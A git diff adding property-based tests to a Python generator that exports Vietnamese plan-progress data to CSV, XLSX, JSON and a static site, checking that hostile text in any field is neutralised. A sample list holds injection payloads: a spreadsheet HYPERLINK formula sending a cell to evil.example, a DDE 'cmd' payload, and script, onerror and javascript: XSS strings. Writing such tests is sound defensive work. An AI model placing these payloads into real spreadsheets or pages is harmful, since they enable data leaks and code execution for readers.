@@ -4,22 +4,29 @@ every text of the reports, no text ever a formula, and the same bytes for the sa
 from __future__ import annotations
 
 import csv
+import html
 import io
 import json
 import re
+import shutil
 import subprocess
+import tempfile
 import zipfile
 from datetime import date, datetime
+from html.parser import HTMLParser
 from pathlib import Path
 from xml.etree import ElementTree
 
 import openpyxl
 import pytest
 import yaml
-from conftest import EXAMPLE, TODAY, tiendo, write
+from conftest import EXAMPLE, FIXTURES, REPO, TODAY, tiendo, write
+from hypothesis import HealthCheck, assume, given, settings
+from hypothesis import strategies as st
 
 from generator.check import check
-from generator.outputs.export import CUT_NOTE, csv_text, write_tables
+from generator.data.problems import has_errors
+from generator.outputs.export import CUT_NOTE, csv_text, export_names, write_tables
 from generator.outputs.tables import DATE, NUMBER, WORDS, Column, Table, tables
 from generator.outputs.xlsx import CELL_LIMIT, column_letter
 from generator.stats.engine import compute_all
@@ -405,3 +412,173 @@ def test_states_hold_every_task_at_every_period_as_the_statistics_count_them(tmp
     totals = timeline.at("2019-Q1").totals
     for category in ("completed_on_time", "completed_late", "overdue", "in_progress", "not_started", "not_reported"):
         assert sum(r["category"] == category for r in at) == totals.count(category), category
+
+
+def test_plans_table_names_each_plan_its_owner_and_its_reporting_cycle(base_data, tmp_path):
+    out = export(base_data, tmp_path / "out")
+    assert csv_rows(out, "plans") == [{
+        "plan": "kh-mau", "code": "01-KH/TU", "title": "Kế hoạch mẫu cho kiểm thử", "issued_by": "Ban Thường vụ Thành ủy",
+        "issued_on": "2018-12-20", "owner": "ban-noi-chinh", "owner_name": "Ban Nội chính", "start": "2019-01-01",
+        "end": "2020-12-31", "cycle": "quarter", "cycle_label": "Theo quý", "tasks": "3", "reports": "3"}]
+
+
+# --- valid data never breaks the downloads nor the site ----------------------------------------
+
+PIECES = [
+    '=HYPERLINK("https://evil.example/?"&B2,"Xem")', "+cmd|' /C calc'!A0", "-1+2", "@SUM(A1)", "\t=1", "=",
+    '<script>alert("tiendo")</script>', '<img src=x onerror=alert("tiendo")>', "**đậm** _nghiêng_", "# Tiêu đề",
+    "[x](javascript:alert(1))", "| a | b |\n|---|---|", "{{ x }}", "{% raw %}", "{#", "%s %(x)s %", "\\", "\\n",
+    '"', "'", "`", "<!--", "]]>", "&amp;", "_x0041_", "Nghị quyết Trung ương 4 (khóa XII)", "e\u0301\u0323ơ\u0309",
+    "😀👍🏽", "עברית", "العربية", "x" * 200, "\n", "\n\n- a\n- b", "  ", ":", "- ", "? ", "*", "&a", "!!str",
+]
+hostile = st.lists(st.one_of(st.sampled_from(PIECES), st.text(st.characters(exclude_categories=("Cs", "Cc", "Cf",
+                                                                                                   "Zl", "Zp")),
+                                                                   min_size=1, max_size=8)),
+                   min_size=1, max_size=3).map("".join).filter(lambda text: text.strip())
+# every free text of the three file kinds that the base plan has
+TEXT_FIELDS = [
+    ("agencies.yaml", ("agencies", 0, "name")), ("agencies.yaml", ("agencies", 1, "name")),
+    ("agencies.yaml", ("agencies", 2, "name")), ("agencies.yaml", ("agencies", 1, "short_name")),
+    ("plans/kh-mau/plan.yaml", ("code",)), ("plans/kh-mau/plan.yaml", ("title",)),
+    ("plans/kh-mau/plan.yaml", ("issued_by",)), ("plans/kh-mau/plan.yaml", ("groups", 0, "title")),
+    ("plans/kh-mau/plan.yaml", ("tasks", 0, "title")), ("plans/kh-mau/plan.yaml", ("tasks", 2, "title")),
+    ("plans/kh-mau/plan.yaml", ("tasks", 0, "indicators", 0, "name")),
+    ("plans/kh-mau/plan.yaml", ("tasks", 0, "indicators", 0, "unit")),
+    ("plans/kh-mau/plan.yaml", ("tasks", 0, "extensions", 0, "decision")),
+    ("plans/kh-mau/plan.yaml", ("tasks", 0, "extensions", 0, "reason")),
+    ("plans/kh-mau/plan.yaml", ("report", "issuer")), ("plans/kh-mau/plan.yaml", ("report", "symbol")),
+    ("plans/kh-mau/plan.yaml", ("report", "place")), ("plans/kh-mau/plan.yaml", ("report", "recipients", 0)),
+    ("updates/kh-mau/cong-an/2019-Q1.yaml", ("reporter",)), ("updates/kh-mau/cong-an/2019-Q1.yaml", ("summary",)),
+    ("updates/kh-mau/cong-an/2019-Q1.yaml", ("obstacles",)), ("updates/kh-mau/cong-an/2019-Q1.yaml", ("proposals",)),
+    ("updates/kh-mau/cong-an/2019-Q1.yaml", ("revisions", 0, "reason")),
+    ("updates/kh-mau/cong-an/2019-Q1.yaml", ("entries", 0, "result")),
+    ("updates/kh-mau/cong-an/2019-Q1.yaml", ("entries", 0, "obstacles")),
+    ("updates/kh-mau/cong-an/2019-Q1.yaml", ("entries", 0, "proposals")),
+    ("updates/kh-mau/cong-an/2019-Q1.yaml", ("entries", 0, "documents", 0, "number")),
+    ("updates/kh-mau/cong-an/2019-Q1.yaml", ("entries", 0, "documents", 0, "title")),
+    ("updates/kh-mau/vks/2019-Q1.yaml", ("entries", 1, "result")),
+]
+# what the downloads do not carry: short names and the compiled report's header
+NOT_EXPORTED = {("agencies", 1, "short_name"), *((("report", *rest)) for rest in
+                                                  (("issuer",), ("symbol",), ("place",), ("recipients", 0)))}
+
+
+def hostile_data(root: Path, texts: list[str]) -> None:
+    """The base plan with a text of `texts` in every free-text field (and the containers they need)."""
+    shutil.copytree(FIXTURES / "base", root)
+    files = {name: load_yaml(root, name) for name, _ in TEXT_FIELDS}
+    plan = files["plans/kh-mau/plan.yaml"]
+    plan["tasks"][0]["extensions"] = [{"due": date(2019, 9, 30), "decided_on": date(2019, 6, 1)}]
+    plan["report"] = {"issuer": "x", "symbol": "x", "place": "x", "recipients": ["x"]}
+    report = files["updates/kh-mau/cong-an/2019-Q1.yaml"]
+    report["revisions"] = [{"date": date(2019, 4, 2), "reason": "x"}]
+    report["entries"][0]["documents"] = [{"number": "x"}]
+    for (name, path), text in zip(TEXT_FIELDS, texts, strict=True):
+        node = files[name]
+        for key in path[:-1]:
+            node = node[key]
+        node[path[-1]] = text
+    for name, content in files.items():
+        dump_yaml(root, name, content)
+
+
+def exported_texts(data) -> list[str]:
+    """The model's value of every exported text field, as read (what the downloads must carry)."""
+    found = []
+    for name, path in TEXT_FIELDS:
+        if path in NOT_EXPORTED:
+            continue
+        node = {"agencies.yaml": data.agencies_file.model, "plans/kh-mau/plan.yaml": data.plans["kh-mau"].plan}.get(
+            name) or next(u.model for u in data.updates if u.path.relative == f"updates/{name.split('/', 1)[1]}")
+        for key in path:
+            node = node[key] if isinstance(key, int) else getattr(node, key)
+        found.append(node)
+    return found
+
+
+def assert_downloads_carry_every_text(data, out: Path) -> None:
+    found = tables(data, list(compute_all(data).values()))
+    write_tables(found, out)
+    payload = json.loads((out / "tiendo.json").read_text(encoding="utf-8"))
+    blob = "\n".join(str(v) for rows in payload.values() for row in rows for v in row.values())
+    for text in exported_texts(data):
+        assert text in blob, text
+    workbook = openpyxl.load_workbook(out / "tiendo.xlsx")
+    assert not [(s.title, c.coordinate) for s in workbook for row in s.iter_rows() for c in row if c.data_type == "f"]
+    shown = set(excel_strings(out / "tiendo.xlsx"))
+    for name, table in found.items():
+        assert payload[name] == json.loads(json.dumps(table.records(), default=str)), name
+        rows = csv_rows(out, name)
+        for record, row in zip(table.records(), rows, strict=True):
+            for key, value in record.items():
+                if isinstance(value, str):
+                    assert row[key] == ("'" + value if value.startswith(("=", "+", "-", "@", "\t", "\r")) else value)
+                    assert value in shown or len(value) > CELL_LIMIT // 2, (name, key)
+
+
+class _Live(HTMLParser):
+    """The data's markup that a browser would run: an `on…` attribute, a `javascript:` link, a script of ours."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+        self._script = False
+
+    def handle_starttag(self, tag, attrs):
+        self._script = tag == "script"
+        for name, value in attrs:
+            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
+                self.found.append(f"<{tag} {name}={value}>")
+
+    def handle_data(self, data):
+        if self._script and 'alert("tiendo")' in data:
+            self.found.append(data)
+
+    def handle_endtag(self, tag):
+        self._script = False
+
+
+def live_markup(markup: str) -> list[str]:
+    parser = _Live()
+    parser.feed(markup)
+    return parser.found
+
+
+@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(hostile, min_size=len(TEXT_FIELDS), max_size=len(TEXT_FIELDS)))
+def test_valid_data_with_any_text_exports_every_text_safely(texts):
+    with tempfile.TemporaryDirectory() as work:
+        root = Path(work) / "data"
+        hostile_data(root, texts)
+        data, problems = check(root, TODAY)
+        assume(not has_errors(problems))
+        assert_downloads_carry_every_text(data, Path(work) / "out")
+
+
+@settings(max_examples=5, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(hostile, min_size=len(TEXT_FIELDS), max_size=len(TEXT_FIELDS)))
+def test_valid_data_with_any_text_builds_the_site_with_the_texts_escaped(texts):
+    from generator.site.build import build_site
+
+    with tempfile.TemporaryDirectory() as work:
+        root = Path(work) / "data"
+        hostile_data(root, texts)
+        data, problems = check(root, TODAY)
+        assume(not has_errors(problems))
+        site = Path(work) / "site"
+        build_site(root, REPO / "mkdocs.yml", site, today=TODAY, docs_dir=Path(work) / "generated")
+        for path in site.rglob("*.html"):
+            assert live_markup(path.read_text(encoding="utf-8")) == [], path
+        task = (site / "nhiem-vu" / "1.1" / "index.html").read_text(encoding="utf-8")
+        title = data.plans["kh-mau"].plan.tasks[0].title
+        shown = html.unescape(re.sub(r"<[^>]+>", " ", task))  # the page's text: tags out, entities read
+        assert " ".join(title.split()) in " ".join(shown.split())
+        assert (site / "tai-ve" / "tiendo.xlsx").is_file()
+
+
+def test_the_downloads_page_describes_every_file():
+    from generator.site.build import EXPORT_DESCRIPTIONS
+
+    data, _ = check(EXAMPLE, TODAY)
+    names = export_names(tables(data, list(compute_all(data).values())))
+    assert list(EXPORT_DESCRIPTIONS) == names
